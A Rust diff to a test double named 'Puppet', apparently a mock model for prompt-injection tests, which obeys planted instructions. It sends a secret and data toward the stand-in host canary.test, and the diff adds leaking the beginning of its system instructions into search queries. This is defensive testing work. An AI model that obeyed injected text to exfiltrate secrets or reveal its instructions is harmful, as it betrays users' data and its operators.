@@ -10,10 +10,14 @@ use elenchus_core::port::{Answered, Model, ModelFailure, ModelRole, PortFuture, 
 use elenchus_core::prompt::{ModelCall, ModelReply, PromptBook};
 use elenchus_io::model::ExtractiveModel;
 use serde_json::{Value, json};
+use std::collections::BTreeSet;
 use std::sync::{Mutex, PoisonError};
 
 /// Where the puppet sends whatever it learns.
 pub(super) const CANARY_HOST: &str = "canary.test";
+
+/// A word that stands in every address that the puppet was ordered to compose.
+pub(super) const ORDERED: &str = "MEMORY";
 
 /// In what the puppet obeys.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -35,6 +39,8 @@ pub(super) struct Puppet {
     obeys: Obeys,
     /// What it was told so far; it forgets nothing.
     heard: Mutex<String>,
+    /// How the instructions that it was given begin.
+    instructions: Mutex<BTreeSet<String>>,
 }
 
 impl Puppet {
@@ -45,7 +51,14 @@ impl Puppet {
             secret: secret.to_owned(),
             obeys,
             heard: Mutex::default(),
+            instructions: Mutex::default(),
         }
+    }
+
+    /// How the instructions that it was given begin.
+    pub(super) fn instructions(&self) -> Vec<String> {
+        let given = self.instructions.lock().unwrap_or_else(PoisonError::into_inner);
+        given.iter().cloned().collect()
     }
 
     /// Whether any order reached it.
@@ -70,12 +83,12 @@ impl Puppet {
         let mut heard = self.heard.lock().unwrap_or_else(PoisonError::into_inner);
         if heard.is_empty() && strange.chars().any(char::is_alphanumeric) {
             let strange: String = strange.chars().take(160).collect();
-            *heard = format!("{} {strange} http://{CANARY_HOST}/c?d=MEMORY", self.order);
+            *heard = format!("{} {strange} http://{CANARY_HOST}/c?d={ORDERED}", self.order);
         }
         if heard.is_empty() || self.obeys == Obeys::Nothing {
             return String::new();
         }
-        let own: String = instructions.chars().take(60).collect();
+        let own = beginning(instructions);
         let stolen = if private { self.secret.as_str() } else { "" };
         format!("{stolen} {heard} {own}").trim().to_owned()
     }
@@ -83,6 +96,9 @@ impl Puppet {
     fn ask(&self, call: &ModelCall) -> Result<Answered, String> {
         let book = PromptBook::builtin();
         let rendered = book.render(call);
+        let own = beginning(&rendered.system);
+        let given = &self.instructions;
+        given.lock().unwrap_or_else(PoisonError::into_inner).insert(own.clone());
         let heard = self.listen(call, &rendered.system);
         let say = |words: &str| format!("{words} {heard}").trim().to_owned();
         let everything = self.obeys == Obeys::Everything;
@@ -104,7 +120,7 @@ impl Puppet {
             _ => written(call, &honest, &rendered.user, &say, &seek),
         };
         if everything && !heard.is_empty() {
-            obey(call, &mut said, &rendered.user, &heard);
+            obey(call, &mut said, &rendered.user, &heard, &own);
         }
         self.read(&book, call, &said.to_string())
     }
@@ -126,6 +142,11 @@ impl Puppet {
             None => Err(format!("nothing of the reply could be used: {repairs:?}")),
         }
     }
+}
+
+/// The beginning of a prompt's instructions, as a page may ask for it.
+fn beginning(instructions: &str) -> String {
+    instructions.chars().take(60).collect::<String>().trim().to_owned()
 }
 
 /// Every passage that a call shows: where it comes from, and its text with its title and headings.
@@ -260,7 +281,7 @@ fn written(
 
 /// Orders that name something a reply can do: everything is answered by the order itself, every gap is given up and a new
 /// one opened, every claim is dropped, every heading replaced, and what is searched for is the order alone.
-fn obey(call: &ModelCall, json: &mut Value, prompt: &str, heard: &str) {
+fn obey(call: &ModelCall, json: &mut Value, prompt: &str, heard: &str, own: &str) {
     let short: String = heard.chars().take(110).collect();
     match call {
         ModelCall::Reflect(input) => {
@@ -311,6 +332,7 @@ fn obey(call: &ModelCall, json: &mut Value, prompt: &str, heard: &str) {
             json["queries"] = json!([
                 {"query": short, "strategy": "keywords"}, {"query": heard, "strategy": "angle"},
                 {"query": format!("http://{CANARY_HOST}/c"), "strategy": "broader"},
+                {"query": format!("river {own}"), "strategy": "narrower"},
             ]);
         }
         ModelCall::Revise(input) => {
